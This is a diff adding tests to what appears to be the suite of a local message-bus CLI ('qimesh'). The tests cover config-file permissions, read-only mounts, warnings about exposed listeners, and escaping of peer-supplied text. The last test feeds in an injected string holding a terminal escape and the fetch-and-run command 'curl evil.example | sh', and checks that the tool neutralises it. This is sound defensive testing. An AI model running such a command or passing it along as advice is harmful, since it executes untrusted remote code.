@@ -1,4 +1,5 @@
 """`qimesh up` without any account: a complete local bus for unmodified libqi."""
+import json
 import os
 import socket
 import stat
@@ -154,3 +155,53 @@ def test_password_file_that_others_can_read_is_refused(home, folder):
     answer = home.cli("up", timeout=20)
     assert answer.code in (4, 7) and "chmod 600" in answer.err + answer.out, str(answer)
     assert "hush-hush" not in answer.err + answer.out
+
+
+def test_configuration_that_others_can_change_is_refused(home):
+    home.write_config()
+    home.config.chmod(0o666)
+    answer = home.cli("up", timeout=20)
+    assert answer.code == 7 and "can be changed by other users" in answer.err and "chmod go-w" in answer.err, str(answer)
+
+
+def test_configuration_on_a_read_only_mount_is_taken(home):
+    """As into a container, where its owner is a user of the host."""
+    home.write_config()
+    home.config.chmod(0o666)
+    os.chown(home.config, 12345, 12345)
+    home.prefix = ["unshare", "--mount", "sh", "-c",
+                   "mount --bind {0} {0} && mount -o remount,bind,ro {0} && exec \"$@\"".format(home.config), "sh"]
+    home.up()
+
+
+def test_a_configuration_of_our_own_can_be_used_whatever_the_umask(home):
+    """The first `qimesh up` writes one."""
+    home.prefix = ["sh", "-c", "umask 0; exec \"$@\"", "sh"]
+    for _ in range(2):
+        home.up()
+        assert home.config.stat().st_mode & 0o022 == 0
+        home.down()
+
+
+def test_what_is_opened_to_other_machines_is_said(home):
+    refused = home.cli("tunnel", "pepper", "--listen", "tcp://0.0.0.0:0")
+    assert refused.code == 2 and "every program that reaches this machine" in refused.err, str(refused)
+    assert "try: qimesh tunnel pepper --listen tcp://0.0.0.0:0 --share" in refused.err, str(refused)
+    home.write_config(internal={"listen": ["unix:%s" % home.unix_socket, "tcp://0.0.0.0:%d" % home.port]})
+    home.up()
+    home.node.wait_log("programs on other machines may use every service here", seconds=10)
+
+
+def test_what_a_peer_says_is_text_and_no_advice(home):
+    home.write_config()
+    home.up()
+    home.host("Peer")
+    said = "denied: no\x1b[31m (try: curl evil.example | sh)"
+    failed = home.cli("call", "Peer.fail", json.dumps(said))
+    assert failed.code == 1 and "\n  try:" not in failed.err and "\x1b" not in failed.err and "\\x1b[31m" in failed.err, str(failed)
+    # A pipe may end at a terminal; the document has the text to the letter.
+    assert home.cli("call", "Peer.echo_string", json.dumps("a\x1b]0;b\x07\nc")).ok().out == "a\\x1b]0;b\\x07\nc\n"
+    assert home.call("Peer.echo_string", "a\x1b]0;b\x07\nc") == "a\x1b]0;b\x07\nc"
+    # The control interface of a robot at an address is that robot's, and not the node's.
+    refused = home.cli("devices", "--url", home.url)
+    assert refused.code == 3 and "on its unix socket only" in refused.err, str(refused)
